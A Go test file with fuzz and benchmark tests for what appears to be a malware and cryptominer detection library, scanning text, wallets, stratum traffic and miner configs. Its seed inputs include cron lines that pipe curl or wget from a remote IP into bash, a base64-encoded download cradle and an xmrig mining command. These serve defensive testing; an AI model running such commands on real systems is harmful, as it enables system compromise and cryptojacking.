package match

import (
	"bytes"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/deminer/deminer/sigma"
)

func FuzzText(f *testing.F) {
	s := shipped(f)
	f.Add("* * * * * root curl http://198.51.100.7/x | bash")
	f.Add("echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2luaXQuc2ggfCBiYXNoCg== | base64 -d | sh")
	f.Add("bash -c \"$(wget -qO- pastebin.com/raw/x)\"; grep 'a|b' \\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74")
	f.Add("xmrig -o stratum+tcp://pool.minexmr.com:4444 -u " + testWallet)
	f.Fuzz(func(t *testing.T, text string) {
		for _, h := range s.Text(text) {
			if h.Offset >= int64(len(text)) || h.Offset < -1 || len(h.Excerpt) > maxExcerpt || h.What == "" {
				t.Fatalf("hit out of bounds: %+v", h)
			}
		}
		s.Argv(strings.Fields(text))
	})
}

func FuzzWallet(f *testing.F) {
	f.Add([]byte(testWallet + " bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"))
	f.Add([]byte("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, w := range FindWallets(b) {
			if string(b[w.Offset:w.Offset+len(w.Address)]) != w.Address {
				t.Fatalf("offset of %+v", w)
			}
		}
		ParseWallet(string(b))
	})
}

func FuzzStratum(f *testing.F) {
	f.Add([]byte(cnLogin + cnJob))
	f.Add([]byte(btcSub + btcAuth + btcWork + ethLogin + ethJob))
	f.Fuzz(func(t *testing.T, b []byte) { Stratum(b) })
}

func FuzzMinerConfig(f *testing.F) {
	s := shipped(f)
	f.Add([]byte(`{"donate-level":1,"randomx":{},"huge-pages":true,"rig-id":"x","pools":[{"url":"a","user":"b"}]}`))
	f.Add([]byte("// c\n/* d */ [\"a\\\"\"]"))
	f.Fuzz(func(t *testing.T, b []byte) { s.MinerConfig(b) })
}

func FuzzList(f *testing.F) {
	f.Add("#! type=domain\tstrength=strong\na.example.org\tclass=x\n#! type=path\n/tmp/{a,b}/*\n#! type=flag\tgroup=a\nre:a+\tneeds=a\n")
	f.Fuzz(func(t *testing.T, text string) {
		list, _ := parseList("f", text)
		x := newIndex(list)
		s := &Set{ioc: x}
		s.Path("/tmp/a/b", []string{"/root"})
		s.Domain("x.a.example.org")
	})
}

// quickLines are lines such as a quick scan sees by the thousand.
func quickLines() []string {
	return []string{
		"/usr/sbin/sshd -D", "/lib/systemd/systemd-journald", "postgres: checkpointer", "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
		"17 * * * * root cd / && run-parts --report /etc/cron.hourly", "ExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'", "java -Xmx3g -XX:+UseLargePages -jar /opt/app/app.jar --server.port=8080",
		"*/5 * * * * www-data wget -q -O - https://site.example/wp-cron.php >/dev/null 2>&1", "[kworker/u8:2-events_unbound]", "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid", "alias ll='ls -alF'",
		"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl anna@laptop",
	}
}

func BenchmarkText(b *testing.B) {
	s := shipped(b)
	lines := quickLines()
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		s.Text(lines[i%len(lines)])
	}
}

func BenchmarkTextCradle(b *testing.B) {
	s := shipped(b)
	for b.Loop() {
		s.Text("*/5 * * * * root (curl -fsSL http://198.51.100.7/a.sh || wget -q -O- http://198.51.100.7/a.sh) | bash")
	}
}

func BenchmarkFile(b *testing.B) {
	s := shipped(b)
	data := bytes.Repeat([]byte("\x7fELF\x02\x01 The quick brown fox jumps over the lazy dog 0123456789\x00\x01\xff"), 20000)
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for b.Loop() {
		if _, err := s.File(b.Context(), bytes.NewReader(data), int64(len(data))); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSmallFile(b *testing.B) {
	s := shipped(b)
	data := []byte("#!/bin/sh\n" + strings.Join(quickLines(), "\n"))
	b.ResetTimer()
	for b.Loop() {
		if _, err := s.File(b.Context(), bytes.NewReader(data), int64(len(data))); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMemory(b *testing.B) {
	s := shipped(b)
	data := bytes.Repeat([]byte("{\"a\": 1}\x00heap words and {braces}\x00\x00\x00\x01"), 30000)
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for b.Loop() {
		s.Memory(b.Context(), data)
	}
}

// FuzzReplay feeds samples of events to a set with a correlation.
func FuzzReplay(f *testing.F) {
	s, err := Load(fstest.MapFS{
		"many.yml": {Data: []byte("title: many\nid: many\ncorrelation: {type: value_count, rules: [failed], group-by: [User], timespan: 1m, condition: {field: Host, gte: 2, lt: 5}}\n")},
		"one.yml":  {Data: []byte("title: failed\nname: failed\nlogsource: {product: linux}\ndetection: {s: [failed], condition: s}\n")},
	})
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte("@product: linux\nUser: a\nHost: b\nmessage: failed\n\n@product: linux\n@after: 2s\nUser: a\nHost: c\nmessage: failed\n"))
	f.Add([]byte("@after: -1s\n\n\r\n@service: x"))
	f.Fuzz(func(_ *testing.T, b []byte) { _, _ = s.replay(b, sigma.LogSource{Product: "linux"}) })
}
